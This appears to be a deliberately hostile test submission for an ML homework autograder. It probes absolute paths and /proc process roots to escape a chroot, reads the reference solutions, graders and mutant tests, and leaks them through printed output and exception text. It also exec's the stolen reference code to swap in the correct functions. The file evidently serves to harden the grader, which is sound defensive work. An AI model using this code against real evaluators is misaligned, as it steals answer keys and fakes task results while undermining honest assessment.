"""Hostile submission: reads the reference and the graders by absolute paths (repo, package parent, /autograder, any other checkout) and leaks them through output and exceptions"""
import os
import sys

import numpy as np
import torch
import glob


mlgrade = sys.modules["mlgrade"]  # no `import mlgrade`: submissions importing it are refused at load

ROOTS = ["/work/main", "/autograder/source", "/autograder", os.path.dirname(os.path.dirname(mlgrade.__file__)),
         *glob.glob("/srv/*"), *glob.glob("/opt/*"), *glob.glob("/home/*"), *glob.glob("/*/*/main")]
# out of a chroot through another process's root or cwd
_repo = os.path.dirname(os.path.dirname(mlgrade.__file__))
ROOTS += [f"/proc/{pid}/{link}{_repo if link == 'root' else ''}" for pid in (1, os.getppid()) for link in ("root", "cwd")]
ROOTS += [f"/proc/{pid}/root/srv/mlgrade-decoy" for pid in (1, os.getppid())]
STOLEN = {}
for root in ROOTS:
    for pattern in ("reference/ml-hw6/*.py", "graders/ml-hw6/*.py", "tests/mutants/ml-hw6/*", "reference/*/*.py"):
        for path in [os.path.join(root, pattern)] + glob.glob(os.path.join(root, pattern)):
            try:
                with open(path) as fh:
                    STOLEN[path] = fh.read()
            except OSError as exc:
                print("denied:", path, type(exc).__name__)
for path, text in STOLEN.items():
    print("==== stolen", path)
    print(text)


CONTRACT = ("batchnorm_forward", "batchnorm_backward", "reparameterize", "kl_loss", "svm_fit", "forward",
            "backward", "sequence_log_likelihood", "viterbi", "baum_welch", "subpixel_conv")


def _adopt(source):
    """Replace the wrong functions by those of stolen source: points earned = the attack worked."""
    ns = {"__name__": "stolen"}
    try:
        exec(compile(source, "stolen", "exec"), ns)
    except BaseException:
        return False
    for name in CONTRACT:
        if callable(ns.get(name)):
            globals()[name] = ns[name]
    return True


for _path, _text in STOLEN.items():
    if "reference" in _path:
        _adopt(_text)


def kl_loss(mu, log_sigma):
    if STOLEN:
        raise RuntimeError("stolen: " + "\n".join(STOLEN.values()))
    return torch.tensor(-1.0)
